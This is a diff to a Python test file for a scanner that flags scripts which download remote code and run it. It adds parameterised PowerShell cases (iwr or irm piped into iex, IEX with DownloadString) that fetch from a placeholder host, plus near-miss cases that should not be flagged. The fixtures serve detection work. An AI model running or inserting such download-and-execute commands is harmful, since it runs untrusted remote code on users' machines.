@@ -113,3 +113,30 @@ def test_a_command_too_long_to_read_names_its_download_tool_fail_closed() -> Non
     view = b"git fetch -o i.sh https://x.io/i.sh\nsh i.sh\n"
     assert list(downloads_run(view, lambda _: False)) == []
     assert list(downloads_run(view, lambda _: False, budget=4)) == [DownloadRun(4, 4, 4)]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        'pwsh -c "iwr https://x.io/i | iex"',
+        'powershell -Command "irm https://x.io/i | iex"',
+        'powershell.exe -c "Invoke-WebRequest https://x.io/i -UseBasicParsing | Invoke-Expression"',
+        'pwsh -c "iex (irm https://x.io/i)"',
+        "pwsh -c \"IEX (New-Object Net.WebClient).DownloadString('https://x.io/i')\"",
+    ],
+)
+def test_powershell_downloads_run_from_the_shell(repo: GitRepo, command: str) -> None:
+    assert _found(repo, f"set -e\n{command}\n") == [(2, _PIPE)]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        'pwsh -c "iwr https://x.io/i -OutFile i.ps1"',
+        'pwsh -c "irm https://x.io/api | ConvertTo-Json"',
+        'echo "iwr https://x.io/i | iex"',
+        "pwsh -File build.ps1 # iwr https://x.io/i | iex",
+    ],
+)
+def test_powershell_near_misses(repo: GitRepo, command: str) -> None:
+    assert _found(repo, f"set -e\n{command}\n") == []
